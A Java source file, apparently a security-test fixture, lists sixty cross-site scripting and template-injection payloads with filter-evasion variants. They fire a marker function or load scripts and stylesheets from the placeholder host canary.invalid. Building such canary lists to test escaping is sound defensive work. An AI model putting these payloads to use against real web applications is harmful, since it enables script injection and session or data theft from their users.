package cl.presente.security;

import java.util.List;

/** Texts that run, or are worked out, wherever somebody forgets what they are. */
final class Payloads {

    private Payloads() {}

    /** What the expressions among them would be worked out to. */
    static final String WORKED_OUT = "1112927";

    /** Sixty; each calls {@code __hit}, asks the host {@code canary.invalid}, or is an expression. None is longer than sixty characters. */
    static final List<String> SCRIPTS = List.of(
            // HTML
            "<script>__hit()</script>",
            "<ScRiPt>__hit()</sCrIpT>",
            "<script src=//canary.invalid/x.js></script>",
            "</title><script>__hit()</script>",
            "</textarea><script>__hit()</script>",
            "</style><script>__hit()</script>",
            "</script><script>__hit()</script>",
            "--><script>__hit()</script>",
            "]]><script>__hit()</script>",
            "<img src=x onerror=__hit()>",
            "<img/src/onerror=__hit()>",
            "<img src=//canary.invalid/x.png>",
            "<body onload=__hit()>",
            "<iframe src=javascript:parent.__hit()>",
            "<iframe srcdoc='<script>parent.__hit()</script>'>",
            "<input autofocus onfocus=__hit()>",
            "<details open ontoggle=__hit()>x</details>",
            "<video><source onerror=__hit()></video>",
            "<audio src=x onerror=__hit()>",
            "<object data=javascript:__hit()>",
            "<embed src=javascript:__hit()>",
            "<link rel=stylesheet href=//canary.invalid/x.css>",
            "<base href=//canary.invalid/>",
            "<meta http-equiv=refresh content=0;url=//canary.invalid>",
            "<form action=//canary.invalid><button>x</button></form>",
            "<marquee onstart=__hit()>x</marquee>",
            // attributes
            "\" autofocus onfocus=__hit() x=\"",
            "' autofocus onfocus=__hit() x='",
            "\" onmouseover=\"__hit()\" x=\"",
            "\"><img src=x onerror=__hit()>",
            "'><img src=x onerror=__hit()>",
            "` onmouseover=__hit() x=`",
            " onmouseover=__hit() ",
            "&quot; onfocus=__hit() autofocus x=&quot;",
            // strings of scripts
            "';__hit();//",
            "\";__hit();//",
            "\\';__hit();//",
            "`;__hit();//",
            "${__hit()}",
            "'-__hit()-'",
            "</script><svg onload=__hit()>",
            "\u2028__hit()//",
            // addresses
            "javascript:__hit()",
            "JaVaScRiPt:__hit()//https://x.cl",
            "java\tscript:__hit()",
            "\u0001javascript:__hit()",
            "data:text/html,<script>__hit()</script>",
            // SVG, MathML, and what changes when it is read twice
            "<svg onload=__hit()>",
            "<svg><script>__hit()</script></svg>",
            "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src onerror=__hit()>",
            "<noscript><p title=\"</noscript><img src onerror=__hit()>\">",
            "&lt;img src=x onerror=__hit()&gt;",
            // expressions
            "#{1103*1009}",
            "${1103*1009}",
            "{{1103*1009}}<%=1103*1009%>",
            // other alphabets and directions, bytes that end a text, styles
            "\uFF1Cscript\uFF1E__hit()\uFF1C/script\uFF1E",
            "\u202E<img src=x onerror=__hit()>",
            "<img\u0000 src=x onerror=__hit()>",
            "</style><style>@import'//canary.invalid/x.css';");
}
